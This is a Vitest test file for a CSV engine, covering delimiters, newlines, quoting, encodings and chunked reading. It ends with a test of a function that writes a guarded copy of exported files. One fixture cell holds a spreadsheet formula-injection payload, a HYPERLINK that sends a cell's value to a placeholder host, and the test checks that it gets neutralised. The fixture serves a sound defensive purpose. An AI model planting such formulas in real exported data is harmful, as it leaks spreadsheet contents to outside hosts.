import { readFileSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { guardedCopy } from '../../../main/engine/sheets/guarded-copy.ts';
import { enrichedCsv, openCsv, readAll } from '../../support/files/csv-fixture.ts';
import { tempDir } from '../../support/files/temp-dir.ts';

test.each([
  [',', 'a,b\nx.com,1\n', 'a,b,New\nx.com,1,v2\n'],
  [';', 'a;b\nx.com;1,5\n', 'a;b;New\nx.com;1,5;v2\n'],
  ['\t', 'a\tb\nx.com\t1\n', 'a\tb\tNew\nx.com\t1\tv2\n'],
  ['|', 'a|b\nx.com|1, 2\n', 'a|b|New\nx.com|1, 2|v2\n'],
])('appends behind the delimiter %j', async (delimiter, text, expected) => {
  const { file } = await openCsv(text);
  expect(file.dialect?.delimiter).toBe(delimiter);
  expect((await enrichedCsv(text)).toString()).toBe(expected);
});

test.each(['\n', '\r\n', '\r'] as const)('keeps the newline %j', async (newline) => {
  const text = ['a,b', 'x.com,1', 'y.com,2', ''].join(newline);
  const { file } = await openCsv(text);
  expect(file.dialect?.newline).toBe(newline);
  expect((await enrichedCsv(text)).toString()).toBe(
    ['a,b,New', 'x.com,1,v2', 'y.com,2,v3', ''].join(newline),
  );
});

test.each([
  ['a missing final newline', 'a,b\nx,1', 'a,b,New\nx,1,v2'],
  ['blank lines', 'a,b\n\nx,1\n\n', 'a,b,New\n\nx,1,v3\n\n'],
  ['ragged rows', 'a,b,c\nx\ny,1,2\n', 'a,b,c,New\nx,,,v2\ny,1,2,v3\n'],
  ['a row wider than its header', 'a,b\nx,1,2\n', 'a,b,,New\nx,1,2,v2\n'],
  ['newlines in quotes', 'a,b\n"x\ny",1\n', 'a,b,New\n"x\ny",1,v2\n'],
  ['doubled quotes', 'a,b\n"say ""hi"", ok",1\n', 'a,b,New\n"say ""hi"", ok",1,v2\n'],
  ['a stray quote in a text', 'a,b\n5" pipe,1\ny,2\n', 'a,b,New\n5" pipe,1,v2\ny,2,v3\n'],
  ['text behind a closing quote', 'a,b\n"x"y,1\n', 'a,b,New\n"x"y,1,v2\n'],
])('keeps %s', async (_name, text, expected) => {
  expect((await enrichedCsv(text)).toString()).toBe(expected);
});

const GREEK = 'name,site\nΑθήνα €,x.com\n';
test.each([
  ['utf-8', Buffer.from(GREEK), false],
  ['utf-8', Buffer.from(`\ufeff${GREEK}`), true],
  ['utf-16le', Buffer.from(`\ufeff${GREEK}`, 'utf16le'), true],
  ['utf-16be', Buffer.from(`\ufeff${GREEK}`, 'utf16le').swap16(), true],
  ['utf-16le', Buffer.from('name,site\nZürich,x.com\n', 'utf16le'), false],
  ['windows-1252', Buffer.from('name,site\nZ\xfcrich \x80,x.com\n', 'latin1'), false],
] as const)('reads and writes %s', async (encoding, bytes, hasBom) => {
  const { file } = await openCsv(bytes);
  expect(file.dialect).toMatchObject({ encoding, hasBom });
  const rows = await readAll(file);
  expect(rows[1]?.cells[0]).toMatch(/^(Αθήνα €|Zürich|Zürich €)$/);

  const enriched = await enrichedCsv(bytes, () => 'Köln');
  const { file: again } = await openCsv(enriched);
  expect(again.dialect).toMatchObject({ encoding, hasBom });
  const values = await readAll(again);
  expect(values.map((row) => row.cells.at(-1))).toEqual(['New', 'Köln']);
  expect(values[1]?.cells[0]).toBe(rows[1]?.cells[0]);
});

test('bytes that mean nothing in the encoding are written back unchanged', async () => {
  const bytes = Buffer.concat([
    Buffer.from(`name,site\n${'é'.repeat(200_000)},x.com\n`),
    Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
    Buffer.from(',y.com\n'),
  ]);
  const enriched = await enrichedCsv(bytes);
  const tail = Buffer.concat([Buffer.from([0xff, 0xfe, 0xc3, 0x28]), Buffer.from(',y.com,v3\n')]);
  expect(enriched.subarray(-tail.length)).toEqual(tail);
});

test('a letter that windows-1252 lacks is written without its accents', async () => {
  const enriched = await enrichedCsv(Buffer.from('n,s\n\xe9,x.com\n', 'latin1'), () => 'Łódź’s ş 漢');
  expect(enriched.toString('latin1').split('\n')[1]).toBe('\xe9,x.com,?\xf3dz\x92s s ?');
});

test('records are split in the same way wherever the chunks of the file end', async () => {
  const line = `"${'x'.repeat(700)}\r\n""${'y'.repeat(333)}",é.com\r\n`;
  const text = `a,b\r\n${line.repeat(3_000)}`;
  const enriched = (await enrichedCsv(text)).toString();
  expect(enriched).toBe(
    `a,b,New\r\n${Array.from({ length: 3_000 }, (_, index) => line.replace(/\r\n$/, `,v${index + 2}\r\n`)).join('')}`,
  );
});

test.each([
  ['small', 'a,b\nx,1\n"y,2\nz,3\n', 4],
  ['beyond a chunk', `a,b\n"x,1\n${'z,3\n'.repeat(800_000)}`, 800_002],
  // Longer than the reader waits for the end of any field.
  ['beyond what is kept', `a,b\n"x,1\n${'zzzzzzzzzzzz,3\n'.repeat(1_600_000)}`, 1_600_002],
])('a quote that is never closed swallows no row (%s)', async (_name, text, rows) => {
  const { file } = await openCsv(text);
  let count = 0;
  for await (const chunk of file.rows({ sheet: file.sheets[0]?.name ?? '' }))
    for (const { cells } of chunk) {
      count += 1;
      if (cells.length !== 2) throw new Error(`row ${count} has ${cells.length} cells`);
    }
  expect(count).toBe(rows);
});

test('a UTF-16 file that ends within a character is refused, not shortened', async () => {
  for (const bytes of [
    Buffer.from('\ufeffa,b\nx,1\n', 'utf16le'),
    Buffer.from('\ufeffa,b\nx,1\n', 'utf16le').swap16(),
  ]) {
    const { file } = await openCsv(bytes.subarray(0, -1));
    await expect(readAll(file)).rejects.toMatchObject({ code: 'file_damaged' });
  }
});

test('what the service wrote is opened elsewhere as a copy whose cells are guarded, unless no cell needs it', async () => {
  const folder = tempDir();
  const write = (name: string, text: string) => {
    const path = join(folder, name);
    writeFileSync(path, text);
    return path;
  };
  const harmless = write('harmless.csv', 'Domain,Rank\r\na.com,-1\r\nb.com,"+2,5"\r\n');
  expect(await guardedCopy(harmless)).toBe(harmless);
  const text =
    'Domain,Title\r\na.com,"=HYPERLINK(""http://x.example/?""&A1,""Info"")"\r\nb.com,fine\r\n@sum,x;=1+1\r\n';
  const list = write('list.csv', text);
  const copy = await guardedCopy(list);
  expect(copy).toBe(join(folder, 'list (guarded).csv'));
  expect(readFileSync(copy, 'utf8')).toBe(
    `Domain,Title\r\na.com,"'=HYPERLINK(""http://x.example/?""&A1,""Info"")"\r\nb.com,fine\r\n'@sum,"x;'=1+1"\r\n`,
  );
  expect(readFileSync(list, 'utf8')).toBe(text);
  // What a person changed in it is theirs, until the list is downloaded again.
  writeFileSync(copy, 'mine');
  expect(await guardedCopy(list)).toBe(copy);
  expect(readFileSync(copy, 'utf8')).toBe('mine');
  utimesSync(list, new Date(), new Date(Date.now() + 60_000));
  expect(await guardedCopy(list)).toBe(join(folder, 'list (guarded) (2).csv'));
  expect(readFileSync(copy, 'utf8')).toBe('mine');
});
